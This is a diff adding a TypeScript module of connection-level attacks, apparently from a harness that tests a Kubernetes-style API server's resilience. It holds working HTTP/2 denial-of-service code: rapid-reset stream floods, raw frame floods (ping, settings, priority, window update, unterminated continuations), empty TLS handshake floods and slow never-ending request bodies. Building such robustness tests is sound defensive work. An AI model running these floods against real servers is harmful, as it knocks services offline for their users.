@@ -1,0 +1,119 @@
+/** Attacks by connections: HTTP/2 frames, handshakes, senders and readers that are slow. */
+import { once } from "node:events";
+import { type ClientHttp2Session, connect, constants } from "node:http2";
+import { connect as connectTls, type TLSSocket } from "node:tls";
+import type { Attack, Attacker } from "./attack.js";
+
+const FLOOD_MS = 2_000;
+
+function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A connection that has said which protocol it speaks. */
+async function openRaw(attacker: Attacker): Promise<TLSSocket> {
+  const { hostname, port } = new URL(attacker.client.url);
+  const { ca } = attacker.client.credentials;
+  const socket = connectTls({ host: hostname, port: Number(port), ca, ALPNProtocols: ["h2"] });
+  socket.on("error", () => {});
+  await once(socket, "secureConnect");
+  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)]));
+  socket.resume();
+  return socket;
+}
+
+/** Six connections write the same piece as fast as the server reads, for two seconds or until it closes them. */
+function flood(piece: Buffer): (attacker: Attacker) => Promise<void> {
+  return (attacker) =>
+    attacker.many(6, 6, async () => {
+      const socket = await openRaw(attacker);
+      const endMs = performance.now() + FLOOD_MS;
+      while (performance.now() < endMs && !socket.destroyed) {
+        if (socket.write(piece)) await new Promise(setImmediate);
+        else await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => {});
+      }
+      socket.destroy();
+    });
+}
+
+const repeat = (count: number, piece: Buffer) => Buffer.concat(Array(count).fill(piece));
+
+/** Streams that are opened and reset at once, with the token or without. */
+function rapidReset(withToken: boolean): (attacker: Attacker) => Promise<void> {
+  return (attacker) =>
+    attacker.many(6, 6, async () => {
+      const { ca } = attacker.client.credentials;
+      const session = connect(attacker.client.url, { ca });
+      session.on("error", () => {});
+      const headers = {
+        ":path": "/api/v1/namespaces/red/configmaps",
+        ...(withToken && { authorization: `Bearer ${attacker.token}` }),
+      };
+      const endMs = performance.now() + FLOOD_MS;
+      while (performance.now() < endMs && !session.destroyed && !session.closed) {
+        for (let count = 0; count < 100 && !session.destroyed && !session.closed; count++) {
+          resetOne(session, headers);
+        }
+        await new Promise(setImmediate);
+      }
+      session.destroy();
+    });
+}
+
+function resetOne(session: ClientHttp2Session, headers: Record<string, string>): void {
+  const stream = session.request(headers);
+  stream.on("error", () => {});
+  stream.close(constants.NGHTTP2_CANCEL);
+}
+
+export const CONNECTION_ATTACKS: readonly Attack[] = [
+  { name: "http/2: rapid resets of nobody", run: rapidReset(false), isShort: true },
+  { name: "http/2: rapid resets of a user", run: rapidReset(true) },
+  { name: "http/2: pings", run: flood(repeat(500, frame(6, 0, 0, Buffer.alloc(8)))) },
+  { name: "http/2: settings", run: flood(repeat(500, frame(4, 0, 0))) },
+  { name: "http/2: priorities", run: flood(repeat(500, frame(2, 0, 1, Buffer.alloc(5)))) },
+  {
+    name: "http/2: window updates",
+    run: flood(repeat(500, frame(8, 0, 0, Buffer.from([0, 0, 0, 1])))),
+  },
+  {
+    name: "http/2: continuations without end",
+    run: flood(
+      Buffer.concat([
+        frame(1, 0, 1, Buffer.from([0x82])),
+        repeat(500, frame(9, 0, 1, Buffer.from([0x82]))),
+      ]),
+    ),
+  },
+  {
+    name: "200 handshakes that say nothing",
+    run: (attacker) =>
+      attacker.many(200, 50, async () => {
+        const socket = await openRaw(attacker);
+        socket.destroy();
+      }),
+  },
+  {
+    name: "300 bodies that never end",
+    run: async (attacker) => {
+      const sockets: TLSSocket[] = [];
+      await attacker.many(300, 50, async () => {
+        const { hostname, port } = new URL(attacker.client.url);
+        const { ca } = attacker.client.credentials;
+        const socket = connectTls({ host: hostname, port: Number(port), ca });
+        socket.on("error", () => {});
+        await once(socket, "secureConnect");
+        const head = `POST /api/v1/namespaces/red/configmaps HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\nContent-Type: application/json\r\nContent-Length: 3000000\r\n\r\n{`;
+        socket.write(head);
+        sockets.push(socket);
+      });
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+      for (const socket of sockets) socket.destroy();
+    },
+  },
+];
